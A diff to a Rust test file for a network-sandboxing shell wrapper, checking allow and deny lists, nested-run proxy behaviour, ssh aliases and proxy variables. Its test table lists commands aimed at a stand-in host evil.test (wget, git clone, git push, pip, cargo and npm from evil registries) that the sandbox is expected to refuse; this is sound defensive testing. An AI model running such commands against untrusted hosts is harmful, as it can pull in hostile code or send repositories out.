@@ -376,6 +376,32 @@ fn nested_invocations_cannot_widen_and_an_unheld_list_means_no_network() {
     .unwrap();
     assert!(!text(&out.stdout).contains("HELLO FROM 127.0.0.3"));
     kernel_refused(&out, &[]);
+    // An inner run under the same system list, without the variable the outer one had (it is
+    // not passed on), goes through the outer proxy, which holds the narrower list.
+    let system = system_file(&lab, "[network]\nallow = [\"127.0.0.2\", \"127.0.0.3\"]\n");
+    let sys = system.to_str().unwrap();
+    let out = cmd(
+        &lab,
+        "0467",
+        &[(SYSTEM, sys), (ALLOW, "127.0.0.2")],
+        &inner(&format!("{SYSTEM}={sys}"), format!("http GET http://127.0.0.2:{two}/")),
+    )
+    .output()
+    .unwrap();
+    assert!(text(&out.stdout).contains("HELLO FROM 127.0.0.2"), "{}{}", text(&out.stdout), text(&out.stderr));
+    let out = cmd(
+        &lab,
+        "0467",
+        &[(SYSTEM, sys), (ALLOW, "127.0.0.2")],
+        &inner(&format!("{SYSTEM}={sys}"), format!("http GET http://127.0.0.3:{three}/")),
+    )
+    .output()
+    .unwrap();
+    assert!(
+        text(&out.stdout).contains("403 Forbidden") && !text(&out.stdout).contains("HELLO"),
+        "{}",
+        text(&out.stdout)
+    );
     // An inner run with the same list keeps the outer proxy.
     let out = cmd(&lab, "0467", &env, &inner("", format!("http GET http://127.0.0.2:{two}/"))).output().unwrap();
     assert!(text(&out.stdout).contains("HELLO FROM 127.0.0.2"), "{}", text(&out.stderr));
@@ -436,8 +462,6 @@ fn literal_hosts_the_list_refuses_are_denied_before_anything_runs() {
     for (program, host) in [
         ("wget -q -O- https://evil.test/x", "evil.test:443"),
         ("git clone https://evil.test/r.git", "evil.test:443"),
-        ("git push git@evil.test:o/r.git", "evil.test"),
-        ("ssh deploy@evil.test true", "evil.test"),
         ("pip download -i https://evil.test/simple x", "evil.test:443"),
         ("cargo fetch --config 'source.x.registry=\"sparse+https://evil.test/\"' https://evil.test/i", "evil.test:443"),
         ("npm install --registry=https://evil.test/ left-pad", "evil.test:443"),
@@ -456,6 +480,15 @@ fn literal_hosts_the_list_refuses_are_denied_before_anything_runs() {
     assert!(got.contains("HELLO FROM 127.0.0.2 GET /ok"), "{got}");
     let out = cmd(&lab, "0467", &env, "git ls-remote https://www.allowed.test/r.git").output().unwrap();
     assert!(!text(&out.stderr).contains("sandbox-bash: denied"), "{}", text(&out.stderr));
+    // An ssh-style host may be an alias of ssh's own configuration: only a deny entry judges it
+    // before it runs (the proxy judges the real name through --sandbox-connect).
+    let out = cmd(&lab, "0467", &env, "ssh -o BatchMode=yes deploy@github.com-work true").output().unwrap();
+    assert!(!text(&out.stderr).contains("sandbox-bash: denied"), "{}", text(&out.stderr));
+    let system = system_file(&lab, "[network]\nallow = [\"127.0.0.2\"]\ndeny = [\"evil.test\"]\n");
+    let out =
+        cmd(&lab, "0467", &[(SYSTEM, system.to_str().unwrap())], "git push git@evil.test:o/r.git").output().unwrap();
+    assert_eq!(out.status.code(), Some(126), "{}", text(&out.stderr));
+    assert!(text(&out.stderr).contains("evil.test: the entry \"evil.test\""), "{}", text(&out.stderr));
     // --sandbox-explain says the same in its JSON.
     let mut c = Command::new(lab::SB);
     c.args(["--sandbox-explain", "--sandbox-json", "-c", &format!("curl http://127.0.0.3:{three}/")]);
@@ -893,4 +926,29 @@ fn where_no_namespace_can_be_had_a_list_means_no_network_at_all() {
     assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
     assert!(text(&out.stderr).contains("so it allows no network at all"), "{}", text(&out.stderr));
     assert_eq!(ok(&bwrap("echo fine", Some("127.0.0.2"))), "fine\n");
+}
+
+#[test]
+fn callers_that_ignore_sigchld_and_clients_that_read_all_proxy_are_served() {
+    use std::os::unix::process::CommandExt;
+    let lab = lab();
+    let two = http_server("127.0.0.2");
+    // A caller that ignores SIGCHLD (the disposition survives exec) has its children reaped
+    // for it: the proxy still starts.
+    let mut c = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], &format!("curl -s http://127.0.0.2:{two}/sig"));
+    // SAFETY: between fork and exec only signal(), which is async-signal-safe.
+    unsafe {
+        c.pre_exec(|| {
+            libc::signal(libc::SIGCHLD, libc::SIG_IGN);
+            Ok(())
+        });
+    }
+    assert!(ok(&c.output().unwrap()).contains("HELLO FROM 127.0.0.2 GET /sig"));
+    // ALL_PROXY names the HTTP proxy (clients that read it for every scheme, such as httpx,
+    // fail to start with a SOCKS URL they have no library for), and it works for curl.
+    let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], "echo $ALL_PROXY $all_proxy").output().unwrap();
+    let said = ok(&out);
+    assert!(said.starts_with("http://127.0.0.1:") && !said.contains("socks"), "{said}");
+    let program = format!("env -u HTTP_PROXY -u http_proxy curl -s http://127.0.0.2:{two}/all");
+    assert!(ok(&cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], &program).output().unwrap()).contains("GET /all"));
 }
